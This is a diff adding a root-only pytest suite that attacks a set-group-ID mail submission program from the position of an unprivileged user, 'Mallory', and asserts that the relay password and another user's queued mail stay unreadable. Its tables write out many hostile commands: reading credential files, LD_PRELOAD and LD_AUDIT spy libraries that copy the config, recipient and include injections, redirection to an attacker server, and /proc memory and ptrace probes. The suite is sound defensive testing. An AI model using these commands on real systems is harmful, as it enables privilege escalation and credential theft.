@@ -1,0 +1,463 @@
+"""A set-group-ID install as an attacker tries it: a user who may send, and may read neither the password nor other
+users' messages. Each attempt is a row of ATTEMPTS. All of it is in a mount namespace with files of its own."""
+
+import base64
+import hashlib
+import os
+import shutil
+import signal
+import subprocess
+import tempfile
+from pathlib import Path
+
+import pytest
+
+from conftest import ORSINO, table
+from queueing import IS_SANITIZED, PERMANENT
+from rogue import SILENCE, Rogue
+from waiting import wait_for
+
+ROOT = Path(__file__).resolve().parents[2]
+MALLORY, ALICE = 60001, 60002
+PASSWORD = b"the-password-of-the-house"
+SECRET = b"written-by-alice-in-confidence"
+LOGIN = b"\0info@example.it\0" + PASSWORD
+# In all the forms that they have on their way.
+TELLTALES = [PASSWORD, base64.b64encode(PASSWORD), base64.b64encode(LOGIN), SECRET]
+MINE = b"From: mallory@example.it\nTo: anna@example.org\nSubject: mine\n\nnothing to hide\n"
+
+SETUP = """
+set -eu
+top=$1
+mount --make-rprivate / 2>/dev/null || :
+mount -t tmpfs tmpfs "$top"
+for dir in usr etc var; do
+    mkdir -p "$top/$dir/upper" "$top/$dir/work"
+    mount -t overlay overlay -o "lowerdir=/$dir,upperdir=$top/$dir/upper,workdir=$top/$dir/work" "/$dir"
+done
+chmod 755 "$top"
+mount -t tmpfs -o mode=755 tmpfs /home
+rm -rf /etc/orsino.ini /etc/aliases /var/spool/orsino
+for user in mallory:60001 alice:60002; do
+    echo "${user%:*}:x:${user#*:}:" >>/etc/group
+    echo "${user%:*}:x:${user#*:}:${user#*:}::/home/${user%:*}:/bin/sh" >>/etc/passwd
+    mkdir -m 755 "/home/${user%:*}"
+    chown "${user#*:}:${user#*:}" "/home/${user%:*}"
+done
+"$2/install.sh" --no-sendmail >/dev/null
+rm -f /usr/local/bin/orsino
+cp "$3" /usr/local/bin/orsino
+chgrp orsino /usr/local/bin/orsino
+chmod 2755 /usr/local/bin/orsino
+cp "$4" /etc/orsino-ca.pem
+chmod 644 /etc/orsino-ca.pem
+echo ready
+exec sleep 3600
+"""
+
+INI = """[orsino]
+log = none
+aliases = /etc/orsino-aliases
+[house]
+host = localhost
+port = {port}
+tls = implicit
+ca_file = /etc/orsino-ca.pem
+user = info@example.it
+password = {password}
+from = info@example.it
+connect_timeout = 10s
+"""
+
+
+class House:
+    """A machine with orsino installed, its provider, and a server of Mallory's own."""
+
+    def __init__(self, certificates, folder):
+        self.server = Rogue(certificates.server_context(), "implicit", {"RCPT": [{"gone@": PERMANENT}]})
+        self.trap = Rogue(None, "none")
+        self.process = subprocess.Popen(
+            ["unshare", "-m", "sh", "-c", SETUP, "sh", folder, ROOT, ORSINO, certificates.ca_file],
+            stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT, env={**os.environ, "LC_ALL": "C"})  # fmt: skip
+        if self.process.stdout.readline() != b"ready\n":
+            raise AssertionError(self.process.communicate()[1].decode())
+        self.root = Path(f"/proc/{self.process.pid}/root")
+        self.ini = self.root / "etc/orsino.ini"
+        self.ini.write_text(INI.format(port=self.server.port, password=PASSWORD.decode()))
+        self.home = self.root / "home/mallory"
+        self.spool = self.root / "var/spool/orsino"
+        self.queued = self.failed = ""
+        for recipient, words in (("anna@example.org", "-odq"), ("gone@example.org", "-odi")):
+            message = b"From: alice@example.it\nTo: %s\n\n%s\n" % (recipient.encode(), SECRET)
+            self.run(f"orsino sendmail {words} -i -t", user=ALICE, message=message)
+        (self.queued,) = os.listdir(self.spool / "queue")
+        (self.failed,) = os.listdir(self.spool / "failed")
+        self.before = self.state()
+
+    def words(self, user, variables):
+        path = "PATH=/usr/local/bin:/usr/bin:/bin"
+        rights = ["setpriv", "--reuid", str(user), "--regid", str(user), "--clear-groups"] if user else []
+        return ["nsenter", f"--mount=/proc/{self.process.pid}/ns/mnt", *rights, "env", "-i", path, *variables]
+
+    def start(self, script, user=MALLORY, variables=None, **more):
+        name = {MALLORY: "mallory", ALICE: "alice"}.get(user, "root")
+        home = "/root" if not user else f"/home/{name}"
+        facts = {
+            "HOME": home, "ID": self.queued, "FAILED": self.failed, "PORT": self.trap.port,
+            "SPOOL": "/var/spool/orsino", **{k: v for k, v in os.environ.items() if k.endswith("SAN_OPTIONS")},
+        }  # fmt: skip
+        pairs = [f"{key}={value}" for key, value in (facts | (variables or {})).items()]
+        return subprocess.Popen(
+            [*self.words(user, pairs), "sh", "-c", f"cd {home} && {script}"],
+            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **more)  # fmt: skip
+
+    def run(self, script, user=MALLORY, message=b"", **more):
+        process = self.start(script, user, **more)
+        out, err = process.communicate(message, timeout=60)
+        return process.returncode, out, err
+
+    def state(self):
+        """All that Mallory must not change: content, owner and rights of root's and Alice's files, and their number."""
+        paths = [self.ini, self.root / "etc/orsino-ca.pem", *sorted(self.spool.rglob("*"))]
+        found = {}
+        for path in paths:
+            st = path.lstat()
+            content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
+            found[str(path.relative_to(self.root))] = (st.st_uid, st.st_gid, oct(st.st_mode), st.st_nlink, content)
+        return found
+
+    def is_untouched(self):
+        """Alice's records change with each look at them by root alone: nobody else runs them."""
+        changed = {path: value for path, value in self.state().items() if self.before.get(path) != value}
+        gone = [path for path in self.before if path not in self.state()]
+        assert (changed, gone) == ({}, [])
+
+    def take_back_mine(self):
+        """The messages that Mallory has in the spool, which are his right."""
+        for folder in ("queue", "failed"):
+            for name in set(os.listdir(self.spool / folder)) - {self.queued, self.failed}:
+                assert f"owner: {MALLORY}\n" in (self.spool / folder / name).read_text()
+                for place in (folder, "body"):
+                    (self.spool / place / name).unlink()
+
+    def loot(self):
+        """All that is in files of Mallory's, or that he may read."""
+        for path in self.home.rglob("*"):
+            if path.is_file() and not path.is_symlink():
+                yield path, path.read_bytes()
+
+    def clean(self):
+        for path in self.home.iterdir():
+            shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
+
+    def heard(self):
+        """What Mallory's own server was told."""
+        return b"".join(piece for session in list(self.trap.sessions) for piece in session.reads)
+
+    def end(self):
+        self.process.kill()
+        self.process.communicate()
+        self.server.stop()
+        self.trap.stop()
+
+
+@pytest.fixture(scope="module")
+def house(certificates):
+    if os.getuid() != 0:
+        pytest.skip("needs root for a mount namespace")
+    with tempfile.TemporaryDirectory(prefix="orsino-") as folder:
+        made = House(certificates, folder)
+        yield made
+        made.end()
+
+
+@pytest.fixture(autouse=True)
+def nothing_is_lost(house):
+    """What holds after each attempt, whatever it was."""
+    yield
+    for path, content in house.loot():
+        for telltale in TELLTALES:
+            assert telltale not in content, f"in {path}"
+    assert not any(telltale in house.heard() for telltale in TELLTALES)
+    house.take_back_mine()
+    house.is_untouched()
+    house.clean()
+
+
+SEND = "orsino sendmail -i -t"
+# An INI of Mallory's own, that leads to his own server, and a line more.
+OWN = """mkdir -p .config/orsino; printf '[orsino]\\nlog = none\\n[own]\\nhost = 127.0.0.1\\nport = %s\\ntls = none\\n\
+from = mallory@example.it\\n%b\\n' $PORT '{line}' >.config/orsino/orsino.ini; chmod 600 .config/orsino/orsino.ini; """
+GLOBALS = """mkdir -p .config/orsino; printf '[orsino]\\nlog = none\\n%b\\n[own]\\nhost = 127.0.0.1\\nport = %s\\ntls = none\\n\
+from = mallory@example.it\\n' '{line}' $PORT >.config/orsino/orsino.ini; chmod 600 .config/orsino/orsino.ini; """
+# A library that reads for Mallory whatever the one who loads it may read.
+SPY = """printf '%s\\n' '#include <stdio.h>' '__attribute__((constructor)) static void spy(void) {{ char t[4096]; size_t n; \
+FILE *f = fopen("/etc/orsino.ini", "r"), *o = fopen("/home/mallory/loot", "a"); if (o) fputs("loaded\\n", o); \
+if (f && o) {{ n = fread(t, 1, sizeof t, f); fwrite(t, 1, n, o); }} if (o) fclose(o); }}' >spy.c && \
+cc -shared -fPIC -o {name} spy.c && """
+
+
+def possible(rows):
+    """Without those for which this machine has no program."""
+    return [row for row in rows if (word := row[1].split()[0]) not in ("gdb", "strace") or shutil.which(word)]
+
+
+def own(line, then):
+    return OWN.format(line=line) + then
+
+
+def own_globals(line, then):
+    return GLOBALS.format(line=line) + then
+
+
+# What Mallory does; the exit codes that it may end with. Where that is 0 his own message went its ordinary way, or he
+# was told what he may know.
+ATTEMPTS = [
+    # Without orsino
+    ("the INI, by name", "cat /etc/orsino.ini", {1}),
+    ("the spool, by name", "ls $SPOOL $SPOOL/queue $SPOOL/body", {2}),
+    ("a message, by name", "cat $SPOOL/body/$ID $SPOOL/queue/$ID", {1}),
+    ("a hard link to the INI", "ln /etc/orsino.ini loot", {1}),
+    ("a hard link to a message", "ln $SPOOL/body/$ID loot", {1}),
+    ("a message as standard input", SEND + " <$SPOOL/body/$ID", {1, 2}),
+    ("the binary, copied", f"cp /usr/local/bin/orsino . && ./{SEND}", {77}),
+    ("the binary, linked", f"ln -s /usr/local/bin/orsino sendmail && ./sendmail -i -t", {0}),
+    # Options
+    ("-C with the INI", "orsino sendmail -C /etc/orsino.ini -v -i -t", {77}),
+    ("-C with a link to the INI", "ln -s /etc/orsino.ini x && orsino sendmail -C x -i -t", {77}),
+    ("-C with a message", "orsino sendmail -C $SPOOL/body/$ID -i -t", {77}),
+    ("-C with a record", "orsino sendmail -C $SPOOL/queue/$ID -i -t", {77}),
+    ("-C with a descriptor", "exec 3</dev/null; orsino sendmail -C /dev/fd/3 -i -t", {78}),
+    ("-C with our own address space", "orsino sendmail -C /proc/self/mem -i -t", {74, 77, 78}),
+    ("queue -C with the INI", "orsino queue list -C /etc/orsino.ini", {77}),
+    ("serve -C with the INI", "orsino serve -C /etc/orsino.ini", {77}),
+    ("-bC shows the INI", "orsino sendmail -bC -v", {0}),
+    ("-v shows the login", "orsino sendmail -v -i -t", {0}),
+    ("-d shows the insides", "orsino sendmail -d99.9 -i -t", {0}),
+    ("-X logs into a file", "orsino sendmail -X loot -i -t", {0}),
+    ("-D logs into a file", "orsino sendmail -D loot -d99 -i -t", {0}),
+    ("-O moves the queue", "orsino sendmail -O QueueDirectory=/home/mallory -odq -i -t", {0}),
+    ("-oQ moves the queue", "orsino sendmail -oQ/home/mallory -odq -i -t", {0}),
+    ("-oA reads a file as aliases", "orsino sendmail -oA/etc/orsino.ini -bv root@example.it", {0}),
+    ("-L with a format", "orsino sendmail -L '%s%s%s%n' -i -t", {0}),
+    ("-F with the INI's name", "orsino sendmail -F :include:/etc/orsino.ini -i -t", {0}),
+    ("a recipient that includes the INI", "orsino sendmail -bv :include:/etc/orsino.ini", {65, 67}),
+    ("a recipient that is the INI", "orsino sendmail -bv /etc/orsino.ini", {0, 65, 67}),
+    ("a recipient that is a program", "orsino sendmail -bv '|cat /etc/orsino.ini'", {0, 65, 67}),
+    ("-bt asks for more", "echo '=S0' | orsino sendmail -bt", {0, 65}),
+    ("-bi reads the INI as aliases", "orsino sendmail -bi -oA/etc/orsino.ini", {0, 72}),
+    ("a relay of his own", "orsino serve", {71, 77}),
+    ("-bs, another's words", "printf 'EHLO x\\r\\nVRFY alice\\r\\nEXPN alice\\r\\nHELP\\r\\nQUIT\\r\\n' | orsino sendmail -bs", {0}),
+    # The queue
+    ("mailq", "mailq() { orsino mailq; }; mailq", {0}),
+    ("-bp -v", "orsino sendmail -bp -v", {0}),
+    ("queue list", "orsino queue list", {0}),
+    ("queue list --json", "orsino queue list --json", {0}),
+    ("queue failed --json", "orsino queue failed --json", {0}),
+    ("queue show", "orsino queue show $ID", {64}),
+    ("queue show by a part", "orsino queue show $(echo $ID | cut -c1-3)", {64}),
+    ("queue show --message", "orsino queue show --message $ID", {64}),
+    ("queue show --message of a failed one", "orsino queue show --message $FAILED", {64}),
+    ("queue show --json", "orsino queue show --json $ID", {64}),
+    ("queue show of a way out", "orsino queue show ../../../../etc/orsino.ini", {64}),
+    ("queue show --message of a way out", "orsino queue show --message ../body/$ID", {64}),
+    ("queue hold", "orsino queue hold $ID", {64}),
+    ("queue release", "orsino queue release $ID", {64}),
+    ("queue retry", "orsino queue retry $FAILED", {64}),
+    ("queue remove", "orsino queue remove $ID", {64}),
+    ("queue remove of a failed one", "orsino queue remove $FAILED", {64}),
+    ("queue remove all", "orsino queue remove all", {0}),
+    ("queue hold all", "orsino queue hold all", {0}),
+    ("queue retry all", "orsino queue retry all", {0}),
+    ("queue run", "orsino queue run", {0}),
+    ("queue run of one", "orsino queue run $ID", {64}),
+    ("-q", "orsino sendmail -q -v", {0}),
+    ("-qI", "orsino sendmail -qI$ID", {64}),
+    ("-qR", "orsino sendmail -qRanna -v", {0}),
+    # The environment
+    ("ORSINO_HOST, his own server", "ORSINO_HOST=127.0.0.1 ORSINO_PORT=$PORT ORSINO_TLS=none ORSINO_AUTH=plain " + SEND, {0}),
+    ("ORSINO_TLS_NAME and ORSINO_CA_FILE", "ORSINO_TLS_NAME=evil.example ORSINO_CA_FILE=/dev/null " + SEND, {0}),
+    ("ORSINO_LOG", f"ORSINO_LOG=/home/mallory/loot {SEND} && test ! -e loot", {0}),
+    ("ORSINO_QUEUE", f"ORSINO_QUEUE=/home/mallory {SEND} -odq && test -z \"$(ls)\"", {0}),
+    ("ORSINO_ALIASES", "ORSINO_ALIASES=/etc/orsino.ini orsino sendmail -bv house", {0, 65}),
+    ("ORSINO_PASSWORD_FILE", f"ORSINO_PASSWORD_FILE=/etc/orsino.ini {SEND}", {0}),
+    ("HOME, with a link to the INI", f"ln -s /etc/orsino.ini .orsino.ini && {SEND}", {0}),
+    ("HOME, where the INI's folder is", f"HOME=/etc {SEND}", {0}),
+    ("XDG_CONFIG_HOME, a folder of links", f"mkdir x && ln -s /etc x/orsino && XDG_CONFIG_HOME=$HOME/x {SEND}", {0}),
+    ("XDG_STATE_HOME, the spool", own("", f"XDG_STATE_HOME=/var/spool {SEND} -odq"), {0}),
+    ("TMPDIR, the spool", f"TMPDIR=$SPOOL/new {SEND}", {0}),
+    ("TZ, the INI", f"TZ=:/etc/orsino.ini {SEND} -v", {0}),
+    ("LD_PRELOAD", SPY.format(name="spy.so") + f"LD_PRELOAD=$HOME/spy.so {SEND}; ! grep password loot", {0}),
+    ("LD_LIBRARY_PATH", SPY.format(name="libc.so.6") + f"LD_LIBRARY_PATH=$HOME /usr/local/bin/{SEND}; test ! -e loot", {0}),
+    ("LD_AUDIT", SPY.format(name="spy.so") + f"LD_AUDIT=$HOME/spy.so {SEND}; test ! -e loot", {0}),
+    ("LD_DEBUG", f"LD_DEBUG=all LD_DEBUG_OUTPUT=$HOME/loot {SEND}", {0}),
+    ("GCONV_PATH and LOCPATH", f"GCONV_PATH=$HOME LOCPATH=$HOME LANG=x.Y NLSPATH=/etc/orsino.ini {SEND}", {0}),
+    ("HOSTALIASES and RESOLV_HOST_CONF", f"HOSTALIASES=/etc/orsino.ini RESOLV_HOST_CONF=/etc/orsino.ini {SEND} -v", {0}),
+    ("RES_OPTIONS and LOCALDOMAIN", f"RES_OPTIONS=debug LOCALDOMAIN=example.org {SEND}", {0}),
+    ("MALLOC_TRACE and GLIBC_TUNABLES", f"MALLOC_TRACE=$HOME/loot GLIBC_TUNABLES=glibc.malloc.check=3 {SEND}", {0}),
+    ("GMON_OUT_PREFIX and friends", f"GMON_OUT_PREFIX=/etc/orsino.ini LD_PROFILE=orsino LD_PROFILE_OUTPUT=$HOME {SEND}", {0}),
+    ("LISTEN_FDS", "LISTEN_PID=$$ LISTEN_FDS=1 exec orsino serve 3</dev/null", {69, 71, 77, 78}),
+    # An INI of his own, for which the group is given up
+    ("password_file, the INI", own("user = x\\npassword_file = /etc/orsino.ini", SEND), {77}),
+    ("ca_file, the INI", own("ca_file = /etc/orsino.ini", f"sed -i s/none/implicit/ .config/orsino/orsino.ini; {SEND}"), {77, 78}),
+    ("aliases, the INI", own_globals("aliases = /etc/orsino.ini", "orsino sendmail -bv house"), {65, 74, 75, 77}),
+    ("aliases that include the INI",
+     own_globals("aliases = /home/mallory/a", "echo 'x: :include:/etc/orsino.ini' >a; orsino sendmail -bv x"), {65, 67, 74, 75, 77}),
+    ("log, the INI", own_globals("log = /etc/orsino.ini", f"sed -i 's/log = none//' .config/orsino/orsino.ini; {SEND}"), {0, 73, 77, 78}),
+    ("log, a record", own_globals("log = /var/spool/orsino/queue/EVIL", f"sed -i 's/log = none//' .config/orsino/orsino.ini; {SEND}"), {0, 73, 77, 78}),
+    ("queue, the spool", own_globals("queue = /var/spool/orsino", "orsino queue list"), {74, 77}),
+    ("queue, the spool, to write", own_globals("queue = /var/spool/orsino", f"{SEND} -odq"), {0}),
+    ("queue, a link to the spool", own_globals("queue = /home/mallory/q", "ln -s $SPOOL q; orsino queue list"), {72, 77}),
+    ("listen_users, the INI",
+     own_globals("listen = 127.0.0.1:0\\nlisten_users = /etc/orsino.ini\\nlisten_allow = 10.0.0.0/8", "orsino serve"), {77, 78}),
+    ("listen_cert, the INI", own_globals("listen = 127.0.0.1:0\\nlisten_cert = /etc/orsino.ini", "orsino serve"), {77, 78}),
+    # What a process inherits
+    ("no descriptors", f"{SEND} <&- >&- 2>&-", {74}),
+    ("no name", "exec bash -c 'exec -a \"\" orsino -i -t'", {0}),
+    ("the name of mailq", "exec bash -c 'exec -a mailq orsino'", {0}),
+    ("the name of runq", "exec bash -c 'exec -a runq orsino'", {0}),
+    ("no standard error", f"{SEND} 2>&-", {0}),
+    ("a full set of descriptors", f"exec 3>a 4>b 5>c 6>d 7>e 8>f 9>g; {SEND} && test ! -s a -a ! -s b -a ! -s c -a ! -s g", {0}),
+    ("umask 0", f"umask 0; {SEND} -odq", {0}),
+    ("files of no size", f"trap '' XFSZ; ulimit -f 0; {SEND}", {0}),
+    ("files of no size, to the queue", f"trap '' XFSZ; ulimit -f 0; {SEND} -odq", {0, 75}),
+    ("four descriptors", f"ulimit -n 4; {SEND}", {75}),
+    ("no processes", f"ulimit -u 0; {SEND} -odb", {0}),
+    ("a folder that is gone", f"mkdir x; cd x; rmdir ../x; {SEND}", {0}),
+    ("a folder that may not be read", f"mkdir x; cd x; chmod 0 .; {SEND}", {0}),
+    ("all signals ignored", f"trap '' HUP INT QUIT TERM PIPE USR1 USR2 ALRM CHLD; {SEND}", {0}),
+    # Links where orsino might write
+    ("dead.letter, a link to the INI", own_globals("queue =", "ln -s /etc/orsino.ini dead.letter; "
+     "sed -i 's/port = .*/port = 1/' .config/orsino/orsino.ini; orsino sendmail -oem -i -t"), {75}),
+    ("dead.letter, a link into the spool", own_globals("queue =", "ln -s $SPOOL/queue/EVIL dead.letter; "
+     "sed -i 's/port = .*/port = 1/' .config/orsino/orsino.ini; orsino sendmail -oem -i -t"), {75}),
+    ("a state folder, a link to the spool",
+     own("", f"mkdir -p .local/state && ln -s $SPOOL .local/state/orsino && {SEND} -odq"), {0}),
+    # A program under somebody's eyes has no more rights than he
+    ("strace from the start", f"strace -f -s 4096 -o loot {SEND}", {77}),
+    ("gdb from the start", "gdb -q -batch -ex run -ex 'info proc mappings' "
+     f"--args {SEND} </dev/null >loot 2>&1; exit 0", {0}),
+    ("no new privileges", f"setpriv --no-new-privs {SEND}", {77}),
+    ("a namespace of his own", f"unshare -Ur {SEND}", {1, 77}),
+]  # fmt: skip
+
+
+@table("script, codes", possible(ATTEMPTS))
+def test_an_attempt(script, codes, house):
+    code, out, err = house.run(script, message=MINE)
+    for telltale in TELLTALES:
+        assert telltale not in out + err
+    assert house.queued.encode() not in out + err or "$ID" in script
+    assert code in codes, f"exit {code}: {out + err!r}"
+
+
+@pytest.fixture
+def waiting(house):
+    """A process of Mallory's that has read the password, and waits for a silent server."""
+    started, script = [], house.server.script
+    house.server.script = {"greeting": [SILENCE]}
+
+    def start(before=""):
+        count = len(house.server.sessions)
+        process = house.start(f"{before} exec {SEND} anna@example.org")
+        started.append(process)
+        process.stdin.write(MINE)
+        process.stdin.close()
+        wait_for(lambda: len(house.server.sessions) > count, 20, "the password in memory")
+        return process
+
+    yield start
+    house.server.script = script
+    for process in started:
+        process.kill()
+        process.wait()
+        for pipe in (process.stdout, process.stderr):
+            pipe.close()
+
+
+READ_MEMORY = """exec python3 -c '
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+room = ctypes.create_string_buffer(4096)
+here, there = iovec(ctypes.addressof(room), 4096), iovec(0x400000, 4096)
+assert libc.process_vm_readv({pid}, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0
+raise SystemExit(ctypes.get_errno())'"""
+ATTACH = """exec python3 -c '
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+assert libc.ptrace(16, {pid}, 0, 0) < 0
+raise SystemExit(ctypes.get_errno())'"""
+# On a process of his own; that it may not be looked at is seen by the exit code.
+LOOKS = [
+    ("its memory", "dd if=/proc/{pid}/mem of=loot bs=4096 count=1 skip=1024", {1}),
+    ("its maps", "cat /proc/{pid}/maps", {1}),
+    ("its environment", "cat /proc/{pid}/environ", {1}),
+    ("its descriptors", "ls -l /proc/{pid}/fd/", {1, 2}),
+    ("its root", "ls /proc/{pid}/root/", {1, 2}),
+    ("its folder", "ls /proc/{pid}/cwd/", {1, 2}),
+    ("its program's place", "readlink /proc/{pid}/exe", {1}),
+    ("its stack", "cat /proc/{pid}/stack", {1}),
+    ("its system calls", "cat /proc/{pid}/syscall", {1}),
+    ("its auxiliary vector", "cat /proc/{pid}/auxv", {1}),
+    ("process_vm_readv", READ_MEMORY, {1}),  # EPERM
+    ("ptrace", ATTACH, {1}),
+    ("gdb", "gdb -q -batch -p {pid} -ex generate-core-file 2>&1 | grep 'not permitted'", {0}),
+    ("strace", "strace -p {pid}", {1}),
+]  # fmt: skip
+
+
+@table("script, codes", possible(LOOKS))
+def test_a_look_at_a_running_process(script, codes, house, waiting):
+    process = waiting()
+    code, out, err = house.run(script.replace("{pid}", str(process.pid)))
+    assert code in codes and not any(telltale in out + err for telltale in TELLTALES), (code, out, err)
+    assert process.poll() is None
+
+
+@pytest.mark.parametrize("number", [signal.SIGSEGV, signal.SIGQUIT, signal.SIGABRT, signal.SIGTRAP, signal.SIGSYS], ids=lambda n: n.name)
+def test_no_core_file(number, house, waiting):
+    """It would hold the password. The fixture looks at what is in Mallory's folder afterwards."""
+    process = waiting("ulimit -c unlimited;")
+    status = Path(f"/proc/{process.pid}/coredump_filter")
+    assert status.exists()
+    code, _, err = house.run(f"kill -{number.value} {process.pid}")
+    assert (code, err) == (0, b"")
+    process.wait(20)
+    assert process.returncode == -number or IS_SANITIZED
+    assert [path.name for path in house.home.iterdir()] == []
+
+
+def test_who_sees_what(house):
+    """Each user his own, root all."""
+    for user, message in ((MALLORY, MINE), (0, b"To: anna@example.org\n\nof root\n")):
+        house.run(f"{SEND} -odq", user=user, message=message)
+    (root_s,) = (name for name in os.listdir(house.spool / "queue") if "owner: 0\n" in (house.spool / "queue" / name).read_text())
+    (mine,) = set(os.listdir(house.spool / "queue")) - {house.queued, root_s}
+    for user, seen in ((MALLORY, {mine}), (ALICE, {house.queued}), (0, {mine, house.queued, root_s})):
+        for words in ("queue list --json", "queue list"):
+            out = house.run(f"orsino {words}", user=user)[1].decode()
+            assert {name for name in (mine, house.queued, root_s) if name in out} == seen
+        assert house.run("orsino sendmail -bP", user=user)[1] == b"%d\n" % len(seen)
+    code, out, _ = house.run("orsino queue show --message $ID", user=ALICE)
+    assert code == 0 and SECRET in out
+    for user, name in ((MALLORY, mine), (0, root_s)):
+        assert house.run(f"orsino queue remove {name}", user=user)[0] == 0
+
+
+def test_what_is_kept_belongs_to_the_group(house):
+    assert house.run(f"umask 0; {SEND} -odq", message=MINE)[0] == 0
+    (mine,) = set(os.listdir(house.spool / "queue")) - {house.queued}
+    for folder in ("queue", "body"):
+        st = (house.spool / folder / mine).stat()
+        assert (st.st_uid, oct(st.st_mode & 0o7777)) == (MALLORY, "0o660")
+        assert st.st_gid == house.spool.stat().st_gid != MALLORY
+    assert [path.name for path in (house.spool / "new").iterdir()] == []
+
+
+def test_the_message_of_a_user_goes_out_with_the_login(house):
+    count = len(house.server.sessions)
+    assert house.run(SEND, message=MINE) == (0, b"", b"")
+    house.server.wait()
+    (session,) = house.server.sessions[count:]
+    assert base64.b64encode(LOGIN).decode() in " ".join(session.lines) and b"nothing to hide" in session.text
